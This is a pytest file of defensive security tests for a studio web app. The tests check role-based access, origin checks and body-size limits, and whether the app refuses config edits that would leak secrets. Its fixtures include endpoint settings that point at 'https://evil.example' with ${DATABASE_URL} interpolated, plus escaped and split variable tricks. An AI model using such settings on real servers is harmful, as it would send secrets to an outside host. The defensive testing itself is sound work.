"""Attempts to come in by another way than the door: while it opens, without a name, with another's body or program."""

from __future__ import annotations

import io
import zipfile
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.types import Message

from studio.people.accounts import Accounts
from studio.people.door import Door
from studio.people.records import LOCAL
from studio.people.roles import Role
from studio.settings import Settings
from studio.workbench_opening import make_workbench
from tests.studio.api.conftest import Server
from tests.studio.api.studio_client import Studio, studio_over

PASSWORD = "a lamp on the table"
ZIP = {"Content-Type": "application/zip"}


@pytest.fixture
async def studio(server: Server, tmp_path: Path) -> AsyncIterator[Studio]:
    async with studio_over(server, tmp_path) as studio:
        yield studio


@pytest.fixture
async def accounts(studio: Studio) -> Accounts:
    """The studio's accounts, with an admin who can sign in."""
    found = studio.opened.accounts
    assert found is not None
    link = await found.first_link()
    assert link is not None
    await found.redeem(link, PASSWORD, "Ada")
    return found


async def bearer(accounts: Accounts, role: Role) -> dict[str, str]:
    _, token = await accounts.new_token(LOCAL, role, role, None)
    return {"Authorization": f"Bearer {token}"}


def zipped(**files: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("config.yml", "recipe: default.v1\nlanguage: en\n")
        for name, text in files.items():
            archive.writestr(name.replace("__", "/").replace("_py", ".py"), text)
    return made.getvalue()


async def test_while_the_accounts_are_being_opened_nobody_is_an_admin(
    server: Server, client: httpx.AsyncClient, tmp_path: Path
) -> None:
    opened = make_workbench(Settings(data_dir=tmp_path / "data"), tmp_path)
    server.app.state.services = replace(server.app.state.services, door=Door(opened.at_door))
    assert (await client.get("/api/me")).json()["person"]["role"] == "admin", "there never was an account"
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "people.sqlite").write_bytes(b"not open yet, or damaged")
    for address in ("/api/me", "/api/projects", "/api/people", "/api/assistant"):
        answer = await client.get(address)
        assert (answer.status_code, answer.json()["code"]) == (503, "not-ready"), address
    assert (await client.get("/healthz")).status_code == 200


async def test_basic_authorisation_of_a_browser_is_no_proof_of_a_program(studio: Studio) -> None:
    headers = {"Origin": "https://evil.example", "Authorization": "Basic YTpi"}
    foreign = await studio.http.post("/api/projects", json={"name": "Shop"}, headers=headers)
    assert foreign.json()["code"] == "foreign-origin"


@pytest.mark.parametrize("path", ["/api/projects/import", "/api/projects/bank/push", "/api/projects/bank/edit"])
async def test_a_strangers_large_body_is_not_waited_for(server: Server, accounts: Accounts, path: str) -> None:
    sent: list[Message] = []

    async def receive() -> Message:
        raise AssertionError("the body was read")

    async def send(message: Message) -> None:
        sent.append(message)

    headers = [(b"host", b"127.0.0.1"), (b"content-length", str(60 * 1024**2).encode())]
    scope = {
        "type": "http",
        "method": "POST",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "headers": headers,
        "client": ("127.0.0.1", 9),
        "server": ("127.0.0.1", 80),
        "scheme": "http",
        "http_version": "1.1",
        "root_path": "",
    }
    await server.app(scope, receive, send)
    assert sent[0]["status"] == 401


async def test_who_is_not_asked_calls_what_is_served_or_published_and_nothing_else(
    server: Server, studio: Studio, accounts: Accounts
) -> None:
    services = server.app.state.services
    door = Door(services.door.accounts, is_public=True, may_call=True)
    server.app.state.services = replace(services, door=door)
    sdp: dict[str, Any] = {
        "content": "v=0\r\nm=audio 9 UDP/TLS/RTP/SAVPF 111\r\n",
        "headers": {"Content-Type": "application/sdp"},
    }
    assert (await studio.http.post("/rtc/offer", **sdp)).status_code == 201
    for query in ("project=bank", "project=bank&environment=staging", "project=bank&environment=branch:main"):
        assert (await studio.http.post(f"/rtc/offer?{query}", **sdp)).status_code == 401, query
    published = await studio.http.post("/rtc/offer?project=bank&environment=production", **sdp)
    assert published.status_code != 401
    assert (await studio.http.post("/api/projects/bank/speech", json={"text": "Hi"})).status_code == 401
    assert (await studio.http.get("/api/conversations/call-1")).status_code == 401
    assert (await studio.http.post("/api/conversations/call-1/rewind", json={"turn": 0})).status_code == 401


async def test_programs_come_in_with_an_admin_only(studio: Studio, accounts: Accounts) -> None:
    designer, admin = await bearer(accounts, "designer"), await bearer(accounts, "admin")
    code = zipped(actions__pay_py="import os\n")
    address = "/api/projects/import?name=Shop"
    refused = await studio.http.post(address, content=code, headers={**ZIP, **designer})
    assert refused.status_code == 403, refused.text
    assert not list((studio.data / "projects").glob("shop*"))
    plain = await studio.http.post(address, content=zipped(), headers={**ZIP, **designer})
    assert plain.status_code == 201, plain.text
    assert (await studio.http.post(address, content=code, headers={**ZIP, **admin})).status_code == 201


async def test_folders_of_the_machine_are_for_admins(studio: Studio, accounts: Accounts) -> None:
    body = {"folder": str(studio.served), "name": "Copy"}
    designer = await bearer(accounts, "designer")
    assert (await studio.http.post("/api/projects/import", json=body, headers=designer)).status_code == 403
    admin = await bearer(accounts, "admin")
    assert (await studio.http.post("/api/projects/import", json=body, headers=admin)).status_code == 201


async def test_a_program_is_not_written_by_solving_a_conflict(studio: Studio, accounts: Accounts) -> None:
    body = {"name": "other", "solved": {"actions/pay.py": "import os\n"}}
    designer = await bearer(accounts, "designer")
    refused = await studio.http.post("/api/projects/bank/branches/merge", json=body, headers=designer)
    assert refused.status_code == 403


async def test_where_secrets_and_callers_words_go_is_for_admins_to_say(studio: Studio, accounts: Accounts) -> None:
    """A designer's own address beside `${NAME}` would have the server send its secrets there."""
    designer, admin = await bearer(accounts, "designer"), await bearer(accounts, "admin")
    stolen = {"op": "write_file", "path": "endpoints.yml", "text": "action_endpoint: {url: 'https://evil.example'}\n"}
    asking = {"op": "write_file", "path": "config.yml", "text": "recipe: default.v1\nlanguage: ${DATABASE_URL}\n"}
    below = {"op": "write_file", "path": "sub_agents/shop/config.yml", "text": "connection: {url: '${DATABASE_URL}'}\n"}
    for command in (stolen, asking, below):
        refused = await studio.http.post("/api/projects/bank/edit", json={"commands": [command]}, headers=designer)
        assert refused.status_code == 403, refused.text
        assert refused.json()["code"] == "settings-refused"
    assert not (studio.served / "sub_agents").exists()
    plain = {"op": "write_file", "path": "config.yml", "text": (studio.served / "config.yml").read_text() + "# seen\n"}
    taken = await studio.http.post("/api/projects/bank/edit", json={"commands": [plain]}, headers=designer)
    assert taken.status_code == 200, taken.text
    seen = await studio.http.get("/api/projects/bank/files/endpoints.yml", headers=admin)
    base = {"files": {"endpoints.yml": seen.json()["etag"]}}
    by_admin = await studio.http.post(
        "/api/projects/bank/edit", json={"commands": [stolen], "base": base}, headers=admin
    )
    assert by_admin.status_code == 200, by_admin.text


@pytest.mark.parametrize(
    "commands",
    [
        [{"op": "write_file", "path": "config.yml", "text": 'recipe: default.v1\nlanguage: "\\x24{HOME}"\n'}],
        [{"op": "write_file", "path": "config.yml", "text": 'recipe: default.v1\nlanguage: "$\\\n{HOME}"\n'}],
        [
            {
                "op": "patch",
                "file": "config.yml",
                "edits": [
                    {"start": 0, "end": 1, "old": "X", "new": "$"},
                    {"start": 1, "end": 1, "old": "", "new": "{HOME}"},
                ],
            }
        ],
    ],
    ids=["escaped", "over a line's end", "in two pieces"],
)
async def test_a_variable_is_seen_however_it_is_written(
    studio: Studio, accounts: Accounts, commands: list[dict[str, Any]]
) -> None:
    (studio.served / "config.yml").write_text("X: 1\nrecipe: default.v1\nlanguage: en\n")
    designer = await bearer(accounts, "designer")
    etag = (await studio.http.get("/api/projects/bank/files/config.yml", headers=designer)).json()["etag"]
    body = {"commands": commands, "base": {"files": {"config.yml": etag}}}
    refused = await studio.http.post("/api/projects/bank/edit", json=body, headers=designer)
    assert refused.json().get("code") == "settings-refused", refused.text
    assert (studio.served / "config.yml").read_text().startswith("X: 1")


async def test_settings_that_ask_for_the_servers_variables_come_in_with_an_admin_only(
    studio: Studio, accounts: Accounts
) -> None:
    designer = await bearer(accounts, "designer")
    asking = zipped(**{"endpoints.yml": "action_endpoint: {url: 'https://evil.example/${DATABASE_URL}'}\n"})
    refused = await studio.http.post("/api/projects/import?name=Shop", content=asking, headers={**ZIP, **designer})
    assert refused.status_code == 403, refused.text
    assert refused.json()["code"] == "settings-refused"
    body = {"name": "other", "solved": {"endpoints.yml": "action_endpoint: {url: 'https://evil.example'}\n"}}
    solved = await studio.http.post("/api/projects/bank/branches/merge", json=body, headers=designer)
    assert solved.json()["code"] == "settings-refused"
